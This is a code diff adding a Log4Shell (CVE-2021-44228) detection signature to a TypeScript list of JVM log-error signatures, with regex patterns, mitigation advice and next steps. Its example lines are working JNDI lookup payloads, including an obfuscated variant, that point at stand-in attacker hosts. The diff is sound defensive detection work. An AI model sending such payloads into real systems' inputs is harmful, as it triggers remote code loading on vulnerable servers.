@@ -249,4 +249,16 @@ export const JVM_SIGNATURES: SignatureInput[] = [
     source: 'https://docs.oracle.com/en/java/javase/17/troubleshoot/general-java-troubleshooting.html',
     examples: {match: ['java.io.IOException: Too many open files', 'java.net.SocketException: Too many open files (Accept failed)'], nonMatch: ['Opened 12 files for the report']},
   },
+  {
+    id: 'log4j-jndi-lookup',
+    ecosystem: 'jvm',
+    failure: 'exploit-attempt',
+    title: 'Log4Shell: JNDI lookup payload in logged input (CVE-2021-44228)',
+    match: {patterns: [r`\$\{jndi:(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http)`, r`\$\{\$\{(?:lower|upper|::-)[^}]*\}ndi:`, r`JndiManager.*Error looking up JNDI resource \[(?:ldaps?|rmi|dns)://(?<host>[^:/\]]+)`]},
+    extracts: ['host'],
+    mitigation: 'Upgrade log4j-core to 2.17.1+ (or remove JndiLookup.class), block outbound LDAP/RMI egress and the payloads at the WAF.',
+    nextSteps: ['Check for outbound connections to the hosts the payloads name (egress and DNS logs).', 'Treat hosts that performed a lookup as compromised until shown otherwise.'],
+    source: 'https://logging.apache.org/log4j/2.x/security.html#CVE-2021-44228',
+    examples: {match: ['GET /search?q=${jndi:ldap://198.51.100.23:1389/a} HTTP/1.1', {line: 'WARN o.a.l.l.c.n.JndiManager - Error looking up JNDI resource [ldap://attacker.example:1389/Exploit]', extracted: {host: 'attacker.example'}}, 'User-Agent: ${${lower:j}ndi:${lower:l}dap://x.example/a}'], nonMatch: ['Looked up JNDI resource java:comp/env/jdbc/orders']},
+  },
 ]
